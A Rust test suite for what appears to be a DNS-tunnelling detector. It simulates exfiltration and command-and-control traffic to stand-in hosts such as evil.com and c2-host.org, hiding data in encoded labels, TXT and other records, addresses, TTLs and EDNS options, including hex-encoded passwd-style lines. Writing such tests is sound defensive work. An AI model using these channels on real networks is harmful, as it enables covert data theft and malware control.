//! Channels.

use super::*;

#[test]
fn one_byte_a_second_for_hours() {
    for (len, pause) in [(32, 20.0), (20, 12.0), (60, 36.0)] {
        let mut bench = Bench::new();
        let mut seconds = 0.0;
        while bench.alerts().is_empty() && seconds < HOUR {
            let name = format!("{}.u.drop-zone.net", bench.base32(len));
            bench.look_up(&name, A, ADDRESS);
            bench.look_up("www.corp.example", A, ADDRESS);
            bench.wait(pause);
            seconds += pause;
        }
        raised(&bench, Some("drop-zone.net"));
        assert!(seconds <= 10.0 * MINUTE, "{len} bytes each {pause} s: {seconds} s");
    }
}

#[test]
fn names_in_base32_base64_and_hexadecimal() {
    for (alphabet, len) in [
        ("abcdefghijklmnopqrstuvwxyz234567", 50),
        ("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_", 60),
        ("0123456789abcdef", 34),
        ("0123456789abcdef", 60),
    ] {
        let mut bench = Bench::new();
        for i in 0..16 {
            let name = format!("{}.{i}.t.evil.co.uk", bench.code(alphabet, len));
            bench.look_up(&name, A, ADDRESS);
            bench.wait(1.0);
        }
        raised(&bench, Some("evil.co.uk"));
    }
}

#[test]
fn hexadecimal_text_in_the_width_of_a_hash() {
    let mut bench = Bench::new();
    for line in 0..20 {
        let text = format!("user{line:02}:x:10{line:02}:  ");
        let hex = text.bytes().fold(String::new(), |hex, byte| format!("{hex}{byte:02x}"));
        bench.look_up(&format!("{hex:.32}.evil.com"), A, ADDRESS);
        bench.wait(1.0);
    }
    raised(&bench, Some("evil.com"));
}

#[test]
fn either_direction_alone_is_enough() {
    for to_server in [true, false] {
        let mut bench = Bench::new();
        for _ in 0..16 {
            let name = format!("{}.t.evil.net", bench.base32(48));
            if to_server {
                bench.ask(&name, TXT);
            } else {
                bench.answer(&name, TXT, &[]);
            }
            bench.wait(1.0);
        }
        raised(&bench, Some("evil.net"));
        let seen = bench.alerts()[0].evidence.iter().find(|e| e.name == "directions_seen").unwrap().value;
        assert!((seen - 1.0).abs() < f64::EPSILON);
    }
}

#[test]
fn rare_types_need_few_names() {
    for kind in [10, 25, 65_399] {
        let mut bench = Bench::new();
        for _ in 0..4 {
            let name = format!("{}.t1.evil.net", bench.base32(14));
            bench.look_up(&name, kind, &[(kind, &[7; 60])]);
            bench.wait(0.1);
        }
        raised(&bench, Some("evil.net"));
    }
}

#[test]
fn commands_in_text_under_few_names() {
    let mut bench = Bench::new();
    for i in 0..40 {
        let text = txt(&bench.base32(120));
        bench.look_up(if i % 2 == 0 { "a.c2-host.org" } else { "b.c2-host.org" }, TXT, &[(TXT, &text)]);
        bench.wait(30.0);
    }
    let (_, bytes) = raised(&bench, Some("c2-host.org"));
    assert!((500..6_000).contains(&bytes), "{bytes}");
}

#[test]
fn commands_in_aliases_and_exchangers() {
    for (kind, skip) in [(5, 0), (15, 2), (33, 6)] {
        let mut bench = Bench::new();
        for i in 0..60 {
            let target = wire(&format!("{}.{}.c2.org", bench.base32(60), bench.base32(60)));
            bench.look_up(&format!("n{i}.c2.org"), kind, &[(kind, &[&vec![0; skip][..], &target].concat())]);
            bench.wait(10.0);
        }
        raised(&bench, Some("c2.org"));
    }
}

#[test]
fn commands_in_addresses() {
    let mut bench = Bench::new();
    for i in 0..150_u32 {
        let octets = i.wrapping_mul(2_654_435_761).rotate_left(7).to_be_bytes();
        bench.look_up(&format!("n{}.c2.org", i % 4), A, &[(A, &octets)]);
        bench.wait(5.0);
    }
    raised(&bench, Some("c2.org"));
}

#[test]
fn data_in_the_top_level_domain_and_over_many_domains() {
    let mut bench = Bench::new();
    for _ in 0..20 {
        let name = format!("tag.{}.{}", bench.hex(60), bench.hex(34));
        bench.look_up(&name, TXT, &[]);
        bench.wait(1.0);
    }
    raised(&bench, None);
    let mut bench = Bench::new();
    for i in 0..30 {
        let name = format!("{}.{}.evil{i}.com", bench.base32(60), bench.base32(40));
        bench.look_up(&name, A, ADDRESS);
        bench.wait(1.0);
    }
    raised(&bench, None);
}

#[test]
fn behind_a_busy_resolver() {
    let mut bench = Bench::new();
    for i in 0..60_000_u64 {
        let name = format!("{}.site{}.com", word(&mut bench), bench.random(3_000));
        bench.look_up(&name, A, ADDRESS);
        if i % 20 == 0 {
            let name = format!("{}.{}.t.evil.net", bench.base32(60), bench.base32(50));
            bench.look_up(&name, TXT, &[(TXT, &txt("ok"))]);
        }
        bench.wait(0.02);
    }
    raised(&bench, Some("evil.net"));
}

#[test]
fn something_else_on_port_53() {
    for (protocol, directions) in [(17, 2), (17, 1), (6, 2)] {
        let mut bench = Bench::new();
        for i in 0..40_usize {
            let payload: Vec<u8> =
                (0..60 + i * 7).map(|_| u8::try_from(bench.random(256)).unwrap()).collect();
            bench.packet(directions == 1 || i % 2 == 0, protocol, &payload);
            bench.wait(0.5);
        }
        raised(&bench, None);
    }
}

#[test]
fn data_in_ttls() {
    let mut bench = Bench::new();
    for _ in 0..100 {
        let ttl = u32::try_from(bench.random(65_536)).unwrap();
        bench.answer_for("www.evil.net", A, ADDRESS, ttl);
        bench.wait(1.0);
    }
    raised(&bench, Some("evil.net"));
}

#[test]
fn one_query_in_base64() {
    let mut bench = Bench::new();
    bench.ask("H4sIAOqk1WMAA8vIT8nPS1HIz0+pSMzNS8zJSS3SUUjOzy0oSi0uTk3h.AgB+/q0eIgAAAB/+9zKq1M8.evil.com", A);
    assert_eq!(raised(&bench, Some("evil.com")).0, Severity::Medium);
    let mut bench = Bench::new();
    let name = format!("{}.{}.evil.com", bench.base32(60), bench.base32(20));
    bench.ask(&name, A);
    silent(&bench);
    assert_eq!(bench.findings.len(), 1, "an observation");
}

#[test]
fn data_in_edns_options() {
    let mut bench = Bench::new();
    for _ in 0..30 {
        let data = bench.base32(32);
        bench.ask_with_option("www.corp.example", 65_001, data.as_bytes());
        bench.wait(1.0);
    }
    raised(&bench, None);
}
